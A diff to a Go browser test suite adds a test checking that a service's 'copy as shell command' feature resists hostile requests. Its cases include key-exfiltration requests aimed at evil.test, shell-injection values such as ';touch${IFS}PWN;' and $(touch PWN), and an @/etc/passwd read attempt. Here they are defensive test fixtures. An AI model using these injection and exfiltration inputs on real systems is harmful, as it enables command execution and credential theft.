@@ -21,7 +21,7 @@ func TestPage(t *testing.T) {
 	browser, program := startBrowser(t), build(t)
 	for does, what := range map[string]func(d *desk){"enter": enter, "present": present, "aim": aim,
 		"keep pets": keepPets, "debug": debug, "filter": filter, "hold": hold, "repeat": repeat,
-		"use the keyboard": useKeyboard, "use all sizes": useSizes, "meet outages": meetOutages} {
+		"copy safely": copySafely, "use the keyboard": useKeyboard, "use all sizes": useSizes, "meet outages": meetOutages} {
 		t.Run(does, func(t *testing.T) {
 			d := &desk{T: t, browser: browser, program: program}
 			d.serve("127.0.0.1:0").window(1200, 900, "light").open("/#key=" + key)
@@ -169,6 +169,51 @@ func repeat(d *desk) { // what is repeated in a shell is as it was sent
 		isSame := len(got) == 2 && got[1] == strings.Replace(got[0].(string), "http://a.example.test", "", 1)
 		if !isSame || strings.ContainsAny(line, "\x1b\u202e") {
 			d.Errorf("$ %s\n%s", line, got)
+		}
+	}
+}
+
+// copySafely copies lines of requests that were made to harm whoever pastes them. A line goes to this service and to no
+// other host, has the key only for a path under /v1, and runs nothing, in any of the shells.
+func copySafely(d *desk) {
+	d.run("navigator.clipboard.writeText = async text => { copied = text }")
+	for _, c := range []struct {
+		request, body, header, target string
+		hasKey                        bool
+	}{
+		{"GET a:@evil.test/steal", "", "Authorization: Bearer <API_KEY>", "/a:@evil.test/steal", false},
+		{"CONNECT @evil.test:80", "", "Authorization: Bearer <API_KEY>", "/@evil.test:80", false},
+		{"GET //a@evil.test/steal", "", "Authorization: Bearer <API_KEY>", "/steal", false},
+		{"GET http://a:b@evil.test?steal", "", "Authorization: Bearer <API_KEY>", "/?steal", false},
+		{"GET http://a@evil.test/v1/pets", "", "X-Id: 1", "/v1/pets", true},
+		{"GET /v1x/pets", "", "Authorization: Bearer <API_KEY>", "/v1x/pets", false},
+		{"GET /v1/pets", "", "Authorization: Bearer <API_KEY>", "/v1/pets", false}, // answered 401
+		{"-oPWN /v1/';touch${IFS}PWN;'", "", "X-Id: 1", "/v1/';touch${IFS}PWN;'", true},
+		{"POST /v1/pets", "\r';touch PWN;#", "X-Id: 1", "/v1/pets", true},
+		{"POST /v1/pets", "';touch PWN;#", "X-Id: 1", "/v1/pets", true},
+		{"POST /v1/pets", "\\';touch PWN;#", "X-Id: 1", "/v1/pets", true},
+		{"POST /v1/pets", "\r\\';touch PWN;#", "X-Id: 1", "/v1/pets", true},
+		{"POST /v1/pets", "@/etc/passwd\n`touch PWN`\n$(touch PWN)\n", "X-Id: 1", "/v1/pets", true},
+		{"GET /v1/pets", "", "X-Id: @/etc/passwd';touch PWN;#\u202e", "/v1/pets", true},
+		{"GET /v1/pets", "", "X'Id: ;touch PWN;#", "/v1/pets", true},
+	} {
+		d.send("DELETE /__admin/requests", "").rows().send(c.request, c.body, c.header)
+		d.see("#list li", "").press(strings.Fields(c.request)[0]).run("copied = ''")
+		line := d.press("Copy").until("copied").run("return copied").(string)
+		d.press("Go on")
+		if to := "'" + d.base + strings.ReplaceAll(c.target, "'", `'\''`) + "'"; !strings.HasSuffix(line, " "+to) {
+			d.Errorf("%s is repeated by\n%s\nwant it to end with %s", c.request, line, to)
+		}
+		if hasKey := strings.Contains(line, key); hasKey != c.hasKey {
+			d.Errorf("%s is repeated by\n%s\nwith the key: %t, want %t", c.request, line, hasKey, c.hasKey)
+		}
+		for _, shell := range []string{"sh", "dash", "bash", "zsh"} {
+			cmd := exec.Command(shell, "-c", line)
+			cmd.Dir = d.TempDir()
+			out, _ := cmd.CombinedOutput() // not every shell is installed
+			if files, _ := os.ReadDir(cmd.Dir); len(files) > 0 {
+				d.Errorf("$ %s\n%s\nin %s it wrote %v", line, out, shell, files)
+			}
 		}
 	}
 }
